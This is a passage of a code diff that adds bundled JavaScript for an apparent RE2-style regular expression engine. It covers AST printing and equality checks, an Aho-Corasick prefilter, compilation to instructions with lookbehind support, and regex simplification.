+      case Regexp2.Op.WORD_BOUNDARY:
+        out += "\\b";
+        break;
+      case Regexp2.Op.NO_WORD_BOUNDARY:
+        out += "\\B";
+        break;
+      case Regexp2.Op.CHAR_CLASS:
+        if (this.runes.length % 2 !== 0) {
+          out += "[invalid char class]";
+          break;
+        }
+        out += "[";
+        if (this.runes.length === 0) out += "^\\x00-\\x{10FFFF}";
+        else if (this.runes[0] === 0 && this.runes[this.runes.length - 1] === Unicode.MAX_RUNE) {
+          out += "^";
+          for (let i = 1; i < this.runes.length - 1; i += 2) {
+            const lo = this.runes[i] + 1;
+            const hi = this.runes[i + 1] - 1;
+            out += Regexp2.quoteIfHyphen(lo);
+            out += Utils.escapeRune(lo);
+            if (lo !== hi) {
+              out += "-";
+              out += Regexp2.quoteIfHyphen(hi);
+              out += Utils.escapeRune(hi);
+            }
+          }
+        } else for (let i = 0; i < this.runes.length; i += 2) {
+          const lo = this.runes[i];
+          const hi = this.runes[i + 1];
+          out += Regexp2.quoteIfHyphen(lo);
+          out += Utils.escapeRune(lo);
+          if (lo !== hi) {
+            out += "-";
+            out += Regexp2.quoteIfHyphen(hi);
+            out += Utils.escapeRune(hi);
+          }
+        }
+        out += "]";
+        break;
+      default:
+        out += this.op;
+    }
+    return out;
+  }
+  maxCap() {
+    let m = 0;
+    if (this.op === Regexp2.Op.CAPTURE) m = this.cap;
+    if (this.subs !== null) for (let sub of this.subs) {
+      const n = sub.maxCap();
+      if (m < n) m = n;
+    }
+    return m;
+  }
+  equals(that) {
+    if (!(that !== null && that instanceof Regexp2)) return false;
+    if (this.op !== that.op) return false;
+    switch (this.op) {
+      case Regexp2.Op.END_TEXT:
+        if ((this.flags & RE2Flags.WAS_DOLLAR) !== (that.flags & RE2Flags.WAS_DOLLAR)) return false;
+        break;
+      case Regexp2.Op.LITERAL:
+      case Regexp2.Op.CHAR_CLASS:
+        if ((this.flags & RE2Flags.FOLD_CASE) !== (that.flags & RE2Flags.FOLD_CASE)) return false;
+        if (this.runes === null && that.runes === null) break;
+        if (this.runes === null || that.runes === null) return false;
+        if (this.runes.length !== that.runes.length) return false;
+        for (let i = 0; i < this.runes.length; i++) if (this.runes[i] !== that.runes[i]) return false;
+        break;
+      case Regexp2.Op.ALTERNATE:
+      case Regexp2.Op.CONCAT:
+        if (this.subs.length !== that.subs.length) return false;
+        for (let i = 0; i < this.subs.length; ++i) if (!this.subs[i].equals(that.subs[i])) return false;
+        break;
+      case Regexp2.Op.STAR:
+      case Regexp2.Op.PLUS:
+      case Regexp2.Op.QUEST:
+        if ((this.flags & RE2Flags.NON_GREEDY) !== (that.flags & RE2Flags.NON_GREEDY) || !this.subs[0].equals(that.subs[0])) return false;
+        break;
+      case Regexp2.Op.REPEAT:
+        if ((this.flags & RE2Flags.NON_GREEDY) !== (that.flags & RE2Flags.NON_GREEDY) || this.min !== that.min || this.max !== that.max || !this.subs[0].equals(that.subs[0])) return false;
+        break;
+      case Regexp2.Op.CAPTURE:
+        if (this.cap !== that.cap || (this.name === null ? that.name !== null : this.name !== that.name) || !this.subs[0].equals(that.subs[0])) return false;
+        break;
+      case Regexp2.Op.PLB:
+      case Regexp2.Op.NLB:
+        if (this.lb !== that.lb || !this.subs[0].equals(that.subs[0])) return false;
+    }
+    return true;
+  }
+};
+var RegexpWalker = class {
+  static walk(root, handler) {
+    const stack = [];
+    let re = root;
+    let result;
+    for (; ; ) {
+      if (re.subs.length === 0) result = handler.leaf(re);
+      else {
+        const state = handler.enter(re);
+        if (state.result === void 0) {
+          stack.push({
+            re,
+            state,
+            i: 0
+          });
+          re = re.subs[0];
+          continue;
+        }
+        result = state.result;
+      }
+      for (; ; ) {
+        if (stack.length === 0) return result;
+        const frame = stack[stack.length - 1];
+        handler.child(frame.re, frame.state, result, frame.i);
+        frame.i++;
+        if (frame.state.result === void 0 && frame.i < frame.re.subs.length) {
+          re = frame.re.subs[frame.i];
+          break;
+        }
+        stack.pop();
+        result = frame.state.result !== void 0 ? frame.state.result : handler.leave(frame.re, frame.state);
+      }
+    }
+  }
+};
+var AhoCorasick = class {
+  constructor(words, alphabetSize) {
+    const edges = /* @__PURE__ */ new Map();
+    const parent = [0];
+    const unit = [0];
+    const depth = [0];
+    const terminal = [0];
+    for (const word of words) {
+      let node = 0;
+      for (let i = 0; i < word.length; i++) {
+        const key = node * alphabetSize + word[i];
+        let child = edges.get(key);
+        if (child === void 0) {
+          child = parent.length;
+          edges.set(key, child);
+          parent.push(node);
+          unit.push(word[i]);
+          depth.push(depth[node] + 1);
+          terminal.push(0);
+        }
+        node = child;
+      }
+      terminal[node] = 1;
+    }
+    const numNodes = parent.length;
+    const children = new Int32Array(numNodes - 1);
+    for (let c = 1; c < numNodes; c++) children[c - 1] = c;
+    children.sort((a, b) => parent[a] - parent[b] || unit[a] - unit[b]);
+    const childStart = new Int32Array(numNodes + 1);
+    for (let c = 1; c < numNodes; c++) childStart[parent[c] + 1]++;
+    for (let n = 0; n < numNodes; n++) childStart[n + 1] += childStart[n];
+    const childUnit = new Int32Array(numNodes - 1);
+    for (let k = 0; k < children.length; k++) childUnit[k] = unit[children[k]];
+    this.childStart = childStart;
+    this.childUnit = childUnit;
+    this.childNode = children;
+    const byDepth = new Int32Array(numNodes);
+    for (let n = 0; n < numNodes; n++) byDepth[n] = n;
+    byDepth.sort((a, b) => depth[a] - depth[b]);
+    const fail = new Int32Array(numNodes);
+    const match = Uint8Array.from(terminal);
+    for (let k = 1; k < numNodes; k++) {
+      const c = byDepth[k];
+      const p = parent[c];
+      if (p !== 0) {
+        let f = fail[p];
+        let next = this.next(f, unit[c]);
+        while (next < 0 && f !== 0) {
+          f = fail[f];
+          next = this.next(f, unit[c]);
+        }
+        fail[c] = next >= 0 ? next : 0;
+      }
+      match[c] |= match[fail[c]];
+    }
+    this.fail = fail;
+    this.match = match;
+  }
+  next(node, u) {
+    let lo = this.childStart[node];
+    let hi = this.childStart[node + 1];
+    const units = this.childUnit;
+    while (lo < hi) {
+      const mid = lo + hi >> 1;
+      const m = units[mid];
+      if (m === u) return this.childNode[mid];
+      if (m < u) lo = mid + 1;
+      else hi = mid;
+    }
+    return -1;
+  }
+  advance(node, u) {
+    for (; ; ) {
+      const next = this.next(node, u);
+      if (next >= 0) return next;
+      if (node === 0) return 0;
+      node = this.fail[node];
+    }
+  }
+  searchUTF16(charSeq, start, end) {
+    let node = 0;
+    for (let i = start; i < end; i++) {
+      node = this.advance(node, charSeq.charCodeAt(i));
+      if (this.match[node] === 1) return true;
+    }
+    return false;
+  }
+  searchUTF8(bytes, start, end) {
+    let node = 0;
+    for (let i = start; i < end; i++) {
+      node = this.advance(node, bytes[i]);
+      if (this.match[node] === 1) return true;
+    }
+    return false;
+  }
+};
+var Prefilter = class Prefilter2 {
+  static Type = {
+    NONE: 0,
+    EXACT: 1,
+    AND: 2,
+    OR: 3
+  };
+  static MAX_SCANS = 32;
+  static MAX_AC_UNITS = 1 << 18;
+  constructor(type) {
+    this.type = type;
+    this.subs = [];
+    this.str = "";
+    this.bytes = null;
+    this.cost = type === Prefilter2.Type.EXACT ? 1 : 0;
+    this.allExact = false;
+    this.ac16 = null;
+    this.ac8 = null;
+  }
+  automaton16() {
+    if (this.ac16 === null) {
+      const words = this.subs.map((s) => {
+        const arr = new Array(s.str.length);
+        for (let i = 0; i < s.str.length; i++) arr[i] = s.str.charCodeAt(i);
+        return arr;
+      });
+      this.ac16 = new AhoCorasick(words, 65536);
+    }
+    return this.ac16;
+  }
+  automaton8() {
+    if (this.ac8 === null) this.ac8 = new AhoCorasick(this.subs.map((s) => s.bytes), 256);
+    return this.ac8;
+  }
+  eval(input, pos) {
+    switch (this.type) {
+      case Prefilter2.Type.NONE:
+        return true;
+      case Prefilter2.Type.EXACT:
+        return input.hasString(this, pos);
+      case Prefilter2.Type.AND:
+        for (let i = 0; i < this.subs.length; i++) if (!this.subs[i].eval(input, pos)) return false;
+        return true;
+      case Prefilter2.Type.OR:
+        if (this.allExact) return input.hasAnyString(this, pos);
+        for (let i = 0; i < this.subs.length; i++) if (this.subs[i].eval(input, pos)) return true;
+        return false;
+      default:
+        return true;
+    }
+  }
+};
+var PrefilterTree = class PrefilterTree2 {
+  static build(re) {
+    if (!re) return new Prefilter(Prefilter.Type.NONE);
+    return RegexpWalker.walk(re, PrefilterTree2.WALKER);
+  }
+  static WALKER = {
+    leaf: (re) => PrefilterTree2.leaf(re),
+    enter: (re) => PrefilterTree2.enter(re),
+    child: (re, state, result) => PrefilterTree2.child(re, state, result),
+    leave: (re, state) => PrefilterTree2.leave(re, state)
+  };
+  static leaf(re) {
+    if (re.op !== Regexp.Op.LITERAL) return new Prefilter(Prefilter.Type.NONE);
+    if (re.runes.length === 0 || (re.flags & RE2Flags.FOLD_CASE) !== 0) return new Prefilter(Prefilter.Type.NONE);
+    let str = "";
+    for (let i = 0; i < re.runes.length; i++) {
+      if (Unicode.isUnsearchable(re.runes[i])) return new Prefilter(Prefilter.Type.NONE);
+      str += String.fromCodePoint(re.runes[i]);
+    }
+    const pf = new Prefilter(Prefilter.Type.EXACT);
+    pf.str = str;
+    pf.bytes = Utils.stringToUtf8ByteArray(pf.str);
+    return pf;
+  }
+  static enter(re) {
+    switch (re.op) {
+      case Regexp.Op.CAPTURE:
+      case Regexp.Op.PLUS:
+        return { sub: null };
+      case Regexp.Op.REPEAT:
+        if (re.min >= 1) return { sub: null };
+        return { result: new Prefilter(Prefilter.Type.NONE) };
+      case Regexp.Op.CONCAT:
+        return {
+          pf: new Prefilter(Prefilter.Type.AND),
+          subs: []
+        };
+      case Regexp.Op.ALTERNATE:
+        return {
+          pf: new Prefilter(Prefilter.Type.OR),
+          subs: []
+        };
+      default:
+        return { result: new Prefilter(Prefilter.Type.NONE) };
+    }
+  }
+  static child(re, state, s) {
+    if (state.subs === void 0) {
+      state.sub = s;
+      return;
+    }
+    if (state.pf.type === Prefilter.Type.AND) {
+      if (s.type === Prefilter.Type.NONE) return;
+      if (s.type === Prefilter.Type.AND) {
+        for (let j = 0; j < s.subs.length; j++) state.subs.push(s.subs[j]);
+        return;
+      }
+      state.subs.push(s);
+      return;
+    }
+    if (s.type === Prefilter.Type.NONE) {
+      state.result = new Prefilter(Prefilter.Type.NONE);
+      return;
+    }
+    if (s.type === Prefilter.Type.OR) {
+      for (let j = 0; j < s.subs.length; j++) state.subs.push(s.subs[j]);
+      return;
+    }
+    state.subs.push(s);
+  }
+  static leave(re, state) {
+    if (state.subs === void 0) return state.sub;
+    const pf = state.pf;
+    const seen = /* @__PURE__ */ new Set();
+    const subs = [];
+    for (const sub of state.subs) {
+      if (sub.type === Prefilter.Type.EXACT) {
+        if (seen.has(sub.str)) continue;
+        seen.add(sub.str);
+      }
+      subs.push(sub);
+    }
+    if (pf.type === Prefilter.Type.AND) {
+      const kept2 = [];
+      let cost2 = 0;
+      for (const sub of subs) {
+        if (cost2 + sub.cost > Prefilter.MAX_SCANS) continue;
+        kept2.push(sub);
+        cost2 += sub.cost;
+      }
+      if (kept2.length === 0) return new Prefilter(Prefilter.Type.NONE);
+      if (kept2.length === 1) return kept2[0];
+      pf.subs = kept2;
+      pf.cost = cost2;
+      return pf;
+    }
+    if (subs.length === 0) return new Prefilter(Prefilter.Type.NONE);
+    if (subs.length === 1) return subs[0];
+    pf.subs = subs;
+    let allExact = true;
+    let cost = 0;
+    let units = 0;
+    for (const sub of subs) {
+      if (sub.type !== Prefilter.Type.EXACT) allExact = false;
+      else units += sub.bytes.length;
+      cost += sub.cost;
+    }
+    if (allExact) {
+      if (units > Prefilter.MAX_AC_UNITS) return new Prefilter(Prefilter.Type.NONE);
+      pf.allExact = true;
+      pf.cost = 1;
+      return pf;
+    }
+    if (cost > Prefilter.MAX_SCANS) return new Prefilter(Prefilter.Type.NONE);
+    pf.cost = cost;
+    return pf;
+  }
+};
+var PatchList = class {
+  /**
+  * @param {number} head - Encoded pointer to the start of the patch list.
+  * @param {number} tail - Encoded pointer to the end of the patch list.
+  */
+  constructor(head = 0, tail = 0) {
+    this.head = head;
+    this.tail = tail;
+  }
+};
+var Prog = class {
+  constructor() {
+    this.inst = [];
+    this.start = 0;
+    this.numCap = 2;
+    this.lbStarts = [];
+    this.numLb = 0;
+    this.lbInst = null;
+  }
+  getInst(pc) {
+    return this.inst[pc];
+  }
+  numInst() {
+    return this.inst.length;
+  }
+  addInst(op) {
+    this.inst.push(new Inst(op));
+  }
+  markLookbehindInsts() {
+    const lbInst = new Uint8Array(this.inst.length);
+    const pending = this.lbStarts.slice();
+    while (pending.length > 0) {
+      const pc = pending.pop();
+      if (pc === 0 || lbInst[pc] === 1) continue;
+      lbInst[pc] = 1;
+      const i = this.inst[pc];
+      switch (i.op) {
+        case Inst.ALT:
+        case Inst.ALT_MATCH:
+          pending.push(i.out, i.arg);
+          break;
+        case Inst.MATCH:
+        case Inst.FAIL:
+          break;
+        default:
+          pending.push(i.out);
+      }
+    }
+    this.lbInst = lbInst;
+  }
+  skipNop(pc) {
+    let i = this.inst[pc];
+    while (i.op === Inst.NOP || i.op === Inst.CAPTURE) {
+      i = this.inst[pc];
+      pc = i.out;
+    }
+    return i;
+  }
+  /** @returns {[boolean, string]} */
+  prefix() {
+    let prefix = "";
+    let i = this.skipNop(this.start);
+    if (!Inst.isRuneOp(i.op) || i.runes.length !== 1) return [i.op === Inst.MATCH, prefix];
+    while (Inst.isRuneOp(i.op) && i.runes.length === 1 && (i.arg & RE2Flags.FOLD_CASE) === 0 && !Unicode.isUnsearchable(i.runes[0])) {
+      prefix += String.fromCodePoint(i.runes[0]);
+      i = this.skipNop(i.out);
+    }
+    return [i.op === Inst.MATCH, prefix];
+  }
+  startCond() {
+    let flag = 0;
+    let pc = this.start;
+    loop: for (; ; ) {
+      const i = this.inst[pc];
+      switch (i.op) {
+        case Inst.EMPTY_WIDTH:
+          flag |= i.arg;
+          break;
+        case Inst.FAIL:
+          return -1;
+        case Inst.CAPTURE:
+        case Inst.NOP:
+          break;
+        default:
+          break loop;
+      }
+      pc = i.out;
+    }
+    return flag;
+  }
+  patch(l, val) {
+    let head = l.head;
+    while (head !== 0) {
+      const i = this.inst[head >> 1];
+      if ((head & 1) === 0) {
+        head = i.out;
+        i.out = val;
+      } else {
+        head = i.arg;
+        i.arg = val;
+      }
+    }
+  }
+  append(l1, l2) {
+    if (l1.head === 0) return l2;
+    if (l2.head === 0) return l1;
+    const i = this.inst[l1.tail >> 1];
+    if ((l1.tail & 1) === 0) i.out = l2.head;
+    else i.arg = l2.head;
+    return new PatchList(l1.head, l2.tail);
+  }
+  /**
+  *
+  * @returns {string}
+  */
+  toString() {
+    let out = "";
+    for (let pc = 0; pc < this.inst.length; pc++) {
+      const len = out.length;
+      out += pc;
+      if (pc === this.start) out += "*";
+      out += "        ".substring(out.length - len);
+      out += this.inst[pc];
+      out += "\n";
+    }
+    return out;
+  }
+};
+var ANY_RUNE_NOT_NL = new Int32Array([
+  0,
+  Codepoint.CODES["\n"] - 1,
+  Codepoint.CODES["\n"] + 1,
+  Unicode.MAX_RUNE
+]);
+var ANY_RUNE = new Int32Array([0, Unicode.MAX_RUNE]);
+var Frag = class {
+  constructor(i = 0, out = new PatchList(), nullable = false) {
+    this.i = i;
+    this.out = out;
+    this.nullable = nullable;
+  }
+};
+var Compiler = class Compiler2 {
+  static compileRegexp(re) {
+    const c = new Compiler2();
+    const f = c.compile(re);
+    c.prog.patch(f.out, c.newInst(Inst.MATCH).i);
+    c.prog.start = f.i;
+    c.prog.markLookbehindInsts();
+    return c.prog;
+  }
+  static compileSet(regexps) {
+    const c = new Compiler2();
+    if (regexps.length === 0) {
+      c.prog.start = c.newInst(Inst.FAIL).i;
+      c.prog.markLookbehindInsts();
+      return c.prog;
+    }
+    let starts = [];
+    for (let i = 0; i < regexps.length; i++) {
+      c.lbOffset = c.prog.numLb;
+      const f = c.compile(regexps[i]);
+      const m = c.newInst(Inst.MATCH);
+      c.prog.getInst(m.i).arg = i;
+      c.prog.patch(f.out, m.i);
+      starts.push(f.i);
+    }
+    let start = starts[0];
+    for (let i = 1; i < starts.length; i++) {
+      const f = c.newInst(Inst.ALT);
+      const inst = c.prog.getInst(f.i);
+      inst.out = start;
+      inst.arg = starts[i];
+      start = f.i;
+    }
+    c.prog.start = start;
+    c.prog.markLookbehindInsts();
+    return c.prog;
+  }
+  constructor() {
+    this.prog = new Prog();
+    this.newInst(Inst.FAIL);
+    this.lbOffset = 0;
+    this.runeCache = /* @__PURE__ */ new Map();
+    this.walker = {
+      leaf: (re) => this.leaf(re),
+      enter: (re) => this.enter(re),
+      child: (re, state, result) => this.child(re, state, result),
+      leave: (re, state) => this.leave(re, state)
+    };
+  }
+  newInst(op) {
+    this.prog.addInst(op);
+    return new Frag(this.prog.numInst() - 1, new PatchList(), true);
+  }
+  nop() {
+    const f = this.newInst(Inst.NOP);
+    f.out = new PatchList(f.i << 1, f.i << 1);
+    return f;
+  }
+  fail() {
+    return new Frag();
+  }
+  cap(arg) {
+    const f = this.newInst(Inst.CAPTURE);
+    f.out = new PatchList(f.i << 1, f.i << 1);
+    this.prog.getInst(f.i).arg = arg;
+    if (this.prog.numCap < arg + 1) this.prog.numCap = arg + 1;
+    return f;
+  }
+  cat(f1, f2) {
+    if (f1.i === 0 || f2.i === 0) {
+      this.prog.patch(f1.out, 0);
+      this.prog.patch(f2.out, 0);
+      return this.fail();
+    }
+    this.prog.patch(f1.out, f2.i);
+    return new Frag(f1.i, f2.out, f1.nullable && f2.nullable);
+  }
+  alt(f1, f2) {
+    if (f1.i === 0) return f2;
+    if (f2.i === 0) return f1;
+    const f = this.newInst(Inst.ALT);
+    const i = this.prog.getInst(f.i);
+    i.out = f1.i;
+    i.arg = f2.i;
+    f.out = this.prog.append(f1.out, f2.out);
+    f.nullable = f1.nullable || f2.nullable;
+    return f;
+  }
+  loop(f1, nongreedy) {
+    const f = this.newInst(Inst.ALT);
+    const i = this.prog.getInst(f.i);
+    if (nongreedy) {
+      i.arg = f1.i;
+      f.out = new PatchList(f.i << 1, f.i << 1);
+    } else {
+      i.out = f1.i;
+      f.out = new PatchList(f.i << 1 | 1, f.i << 1 | 1);
+    }
+    this.prog.patch(f1.out, f.i);
+    return f;
+  }
+  quest(f1, nongreedy) {
+    if (f1.i === 0) return this.nop();
+    const f = this.newInst(Inst.ALT);
+    const i = this.prog.getInst(f.i);
+    if (nongreedy) {
+      i.arg = f1.i;
+      f.out = new PatchList(f.i << 1, f.i << 1);
+    } else {
+      i.out = f1.i;
+      f.out = new PatchList(f.i << 1 | 1, f.i << 1 | 1);
+    }
+    f.out = this.prog.append(f.out, f1.out);
+    return f;
+  }
+  star(f1, nongreedy) {
+    if (f1.i === 0) return this.nop();
+    if (f1.nullable) return this.quest(this.plus(f1, nongreedy), nongreedy);
+    return this.loop(f1, nongreedy);
+  }
+  plus(f1, nongreedy) {
+    if (f1.i === 0) return this.fail();
+    return new Frag(f1.i, this.loop(f1, nongreedy).out, f1.nullable);
+  }
+  empty(op) {
+    const f = this.newInst(Inst.EMPTY_WIDTH);
+    this.prog.getInst(f.i).arg = op;
+    f.out = new PatchList(f.i << 1, f.i << 1);
+    return f;
+  }
+  rune(runes, flags) {
+    const f = this.newInst(Inst.RUNE);
+    f.nullable = false;
+    const i = this.prog.getInst(f.i);
+    i.runes = runes;
+    flags &= RE2Flags.FOLD_CASE;
+    if (runes.length !== 1 || Unicode.simpleFold(runes[0]) === runes[0]) flags &= ~RE2Flags.FOLD_CASE;
+    i.arg = flags;
+    f.out = new PatchList(f.i << 1, f.i << 1);
+    if ((flags & RE2Flags.FOLD_CASE) === 0 && runes.length === 1 || runes.length === 2 && runes[0] === runes[1]) i.op = Inst.RUNE1;
+    else if (runes.length === 2 && runes[0] === 0 && runes[1] === Unicode.MAX_RUNE) i.op = Inst.RUNE_ANY;
+    else if (runes.length === 4 && runes[0] === 0 && runes[1] === Codepoint.CODES["\n"] - 1 && runes[2] === Codepoint.CODES["\n"] + 1 && runes[3] === Unicode.MAX_RUNE) i.op = Inst.RUNE_ANY_NOT_NL;
+    return f;
+  }
+  lookBehind(a, parsedLb) {
+    const lb = Math.sign(parsedLb) * (Math.abs(parsedLb) + this.lbOffset);
+    const id = this.newInst(Inst.LB_WRITE);
+    this.prog.getInst(id.i).arg = lb;
+    const any = this.rune(ANY_RUNE, 0);
+    const dotStar = this.star(any, true);
+    const lbAutomaton = this.cat(dotStar, a);
+    this.prog.patch(lbAutomaton.out, id.i);
+    const checkId = this.newInst(Inst.LB_CHECK);
+    this.prog.getInst(checkId.i).arg = lb;
+    this.prog.lbStarts.push(lbAutomaton.i);
+    if (Math.abs(lb) > this.prog.numLb) this.prog.numLb = Math.abs(lb);
+    checkId.out = new PatchList(checkId.i << 1, checkId.i << 1);
+    return checkId;
+  }
+  compile(re) {
+    return RegexpWalker.walk(re, this.walker);
+  }
+  leaf(re) {
+    switch (re.op) {
+      case Regexp.Op.NO_MATCH:
+        return this.fail();
+      case Regexp.Op.EMPTY_MATCH:
+        return this.nop();
+      case Regexp.Op.LITERAL: {
+        if (re.runes.length === 0) return this.nop();
+        let f = null;
+        for (let r of re.runes) {
+          let singleRune = this.runeCache.get(r);
+          if (singleRune === void 0) {
+            singleRune = new Int32Array([r]);
+            this.runeCache.set(r, singleRune);
+          }
+          const f1 = this.rune(singleRune, re.flags);
+          f = f === null ? f1 : this.cat(f, f1);
+        }
+        return f;
+      }
+      case Regexp.Op.CHAR_CLASS:
+        return this.rune(re.runes, re.flags);
+      case Regexp.Op.ANY_CHAR_NOT_NL:
+        return this.rune(ANY_RUNE_NOT_NL, 0);
+      case Regexp.Op.ANY_CHAR:
+        return this.rune(ANY_RUNE, 0);
+      case Regexp.Op.BEGIN_LINE:
+        return this.empty(Utils.EMPTY_BEGIN_LINE);
+      case Regexp.Op.END_LINE:
+        return this.empty(Utils.EMPTY_END_LINE);
+      case Regexp.Op.BEGIN_TEXT:
+        return this.empty(Utils.EMPTY_BEGIN_TEXT);
+      case Regexp.Op.END_TEXT:
+        return this.empty(Utils.EMPTY_END_TEXT);
+      case Regexp.Op.WORD_BOUNDARY:
+        return this.empty(Utils.EMPTY_WORD_BOUNDARY);
+      case Regexp.Op.NO_WORD_BOUNDARY:
+        return this.empty(Utils.EMPTY_NO_WORD_BOUNDARY);
+      case Regexp.Op.CONCAT:
+      case Regexp.Op.ALTERNATE:
+        return this.nop();
+      default:
+        throw new RE2JSCompileException("regexp: unhandled case in compile");
+    }
+  }
+  enter(re) {
+    switch (re.op) {
+      case Regexp.Op.PLB:
+      case Regexp.Op.NLB:
+      case Regexp.Op.STAR:
+      case Regexp.Op.PLUS:
+      case Regexp.Op.QUEST:
+        return { sub: null };
+      case Regexp.Op.CAPTURE:
+        return {
+          bra: this.cap(re.cap << 1),
+          sub: null
+        };
+      case Regexp.Op.CONCAT:
+      case Regexp.Op.ALTERNATE:
+        return { f: null };
+      default:
+        throw new RE2JSCompileException("regexp: unhandled case in compile");
+    }
+  }
+  child(re, state, f1) {
+    if (re.op === Regexp.Op.CONCAT) state.f = state.f === null ? f1 : this.cat(state.f, f1);
+    else if (re.op === Regexp.Op.ALTERNATE) state.f = state.f === null ? f1 : this.alt(state.f, f1);
+    else state.sub = f1;
+  }
+  leave(re, state) {
+    switch (re.op) {
+      case Regexp.Op.PLB:
+      case Regexp.Op.NLB:
+        return this.lookBehind(state.sub, re.lb);
+      case Regexp.Op.CAPTURE: {
+        const ket = this.cap(re.cap << 1 | 1);
+        return this.cat(this.cat(state.bra, state.sub), ket);
+      }
+      case Regexp.Op.STAR:
+        return this.star(state.sub, (re.flags & RE2Flags.NON_GREEDY) !== 0);
+      case Regexp.Op.PLUS:
+        return this.plus(state.sub, (re.flags & RE2Flags.NON_GREEDY) !== 0);
+      case Regexp.Op.QUEST:
+        return this.quest(state.sub, (re.flags & RE2Flags.NON_GREEDY) !== 0);
+      case Regexp.Op.CONCAT:
+      case Regexp.Op.ALTERNATE:
+        return state.f;
+      default:
+        throw new RE2JSCompileException("regexp: unhandled case in compile");
+    }
+  }
+};
+var Simplify = class Simplify2 {
+  static simplify(re) {
+    if (re === null) return null;
+    return RegexpWalker.walk(re, Simplify2.WALKER);
+  }
+  static WALKER = {
+    leaf: (re) => Simplify2.leaf(re),
+    enter: (re) => Simplify2.enter(re),
+    child: (re, state, result, i) => Simplify2.child(re, state, result, i),
+    leave: (re, state) => Simplify2.leave(re, state)
+  };
+  static leaf(re) {
+    if (re.op === Regexp.Op.CHAR_CLASS) {
+      if (re.runes === null) return re;
+      if (re.runes.length === 0) return new Regexp(Regexp.Op.NO_MATCH);
+      if (re.runes.length === 2 && re.runes[0] === 0 && re.runes[1] === Unicode.MAX_RUNE) return new Regexp(Regexp.Op.ANY_CHAR);
+      if (re.runes.length === 4 && re.runes[0] === 0 && re.runes[1] === Codepoint.CODES["\n"] - 1 && re.runes[2] === Codepoint.CODES["\n"] + 1 && re.runes[3] === Unicode.MAX_RUNE) return new Regexp(Regexp.Op.ANY_CHAR_NOT_NL);
+    }
+    return re;
+  }
+  static enter(re) {
+    switch (re.op) {
+      case Regexp.Op.PLB:
+      case Regexp.Op.NLB:
+      case Regexp.Op.CAPTURE:
+      case Regexp.Op.STAR:
+      case Regexp.Op.PLUS:
+      case Regexp.Op.QUEST:
+        return { sub: null };
+      case Regexp.Op.CONCAT:
+      case Regexp.Op.ALTERNATE:
+        return {
+          subs: [],
+          changed: false
+        };
+      case Regexp.Op.REPEAT:
+        if (re.min === 0 && re.max === 0) return { result: new Regexp(Regexp.Op.EMPTY_MATCH) };
+        return { sub: null };
+      default:
+        return { result: re };
+    }
+  }
+  static child(re, state, nsub, i) {
+    if (state.subs === void 0) {
+      state.sub = nsub;
+      return;
+    }
+    if (nsub !== re.subs[i]) state.changed = true;
+    if (re.op === Regexp.Op.CONCAT) {
+      if (nsub.op === Regexp.Op.NO_MATCH) {
+        state.result = new Regexp(Regexp.Op.NO_MATCH);
+        return;
+      }
+      if (nsub.op === Regexp.Op.EMPTY_MATCH) {
+        state.changed = true;
+        return;
+      }
+      if (nsub.op === Regexp.Op.CONCAT) {
+        state.changed = true;
+        for (let j = 0; j < nsub.subs.length; j++) state.subs.push(nsub.subs[j]);
+        return;
+      }
+    } else {
+      if (nsub.op === Regexp.Op.NO_MATCH) {
+        state.changed = true;
+        return;
+      }
+      if (nsub.op === Regexp.Op.ALTERNATE) {
+        state.changed = true;
+        for (let j = 0; j < nsub.subs.length; j++) state.subs.push(nsub.subs[j]);
+        return;
+      }
+    }
+    state.subs.push(nsub);
+  }
+  static leave(re, state) {
+    switch (re.op) {
+      case Regexp.Op.PLB:
+      case Regexp.Op.NLB:
+      case Regexp.Op.CAPTURE: {
+        const sub = state.sub;
+        if (sub !== re.subs[0]) {
+          const nre = Regexp.fromRegexp(re);
+          nre.runes = /* @__PURE__ */ new Int32Array(0);
+          nre.subs = [sub];
+          return nre;
+        }
+        return re;
+      }
+      case Regexp.Op.CONCAT:
+      case Regexp.Op.ALTERNATE:
+        if (state.changed) {
+          const newSubs = state.subs;
+          if (newSubs.length === 0) return new Regexp(re.op === Regexp.Op.CONCAT ? Regexp.Op.EMPTY_MATCH : Regexp.Op.NO_MATCH);
+          if (newSubs.length === 1) return newSubs[0];
+          const nre = Regexp.fromRegexp(re);
+          nre.runes = /* @__PURE__ */ new Int32Array(0);
+          nre.subs = newSubs;
+          return nre;
+        }
+        return re;
+      case Regexp.Op.STAR:
+      case Regexp.Op.PLUS:
+      case Regexp.Op.QUEST:
+        return Simplify2.simplify1(re.op, re.flags, state.sub, re);
+      case Regexp.Op.REPEAT:
+        return Simplify2.simplifyRepeat(re, state.sub);
+      default:
+        return re;
+    }
+  }
+  static simplifyRepeat(re, sub) {
+    if (re.max === -1) {
+      if (re.min === 0) return Simplify2.simplify1(Regexp.Op.STAR, re.flags, sub, null);
+      if (re.min === 1) return Simplify2.simplify1(Regexp.Op.PLUS, re.flags, sub, null);
+      const subs = [];
+      for (let i = 0; i < re.min - 1; i++) subs.push(sub);
+      subs.push(Simplify2.simplify1(Regexp.Op.PLUS, re.flags, sub, null));
+      return Simplify2.concat(subs);
+    }
+    if (re.min === 1 && re.max === 1) return sub;
+    let prefixSubs = null;
+    if (re.min > 0) {
+      prefixSubs = [];
+      for (let i = 0; i < re.min; i++) prefixSubs.push(sub);
+    }
+    if (re.max > re.min) {
+      let suffix = Simplify2.simplify1(Regexp.Op.QUEST, re.flags, sub, null);
+      for (let i = re.min + 1; i < re.max; i++) suffix = Simplify2.simplify1(Regexp.Op.QUEST, re.flags, Simplify2.concat([sub, suffix]), null);
+      if (prefixSubs === null) return suffix;
+      prefixSubs.push(suffix);
+    }
+    if (prefixSubs !== null) return Simplify2.concat(prefixSubs);
+    return new Regexp(Regexp.Op.NO_MATCH);
+  }
+  static concat(subs) {
+    const newSubs = [];
+    for (let i = 0; i < subs.length; i++) {
+      const sub = subs[i];
+      if (sub.op === Regexp.Op.NO_MATCH) return new Regexp(Regexp.Op.NO_MATCH);
+      if (sub.op === Regexp.Op.EMPTY_MATCH) continue;
+      if (sub.op === Regexp.Op.CONCAT) {
+        for (let j = 0; j < sub.subs.length; j++) newSubs.push(sub.subs[j]);
+        continue;
+      }
+      newSubs.push(sub);
+    }
+    if (newSubs.length === 0) return new Regexp(Regexp.Op.EMPTY_MATCH);
+    if (newSubs.length === 1) return newSubs[0];
+    const nre = new Regexp(Regexp.Op.CONCAT);
+    nre.subs = newSubs;
+    return nre;
+  }
+  static simplify1(op, flags, sub, re) {
+    if (sub.op === Regexp.Op.EMPTY_MATCH) return sub;
+    if (sub.op === Regexp.Op.NO_MATCH) {
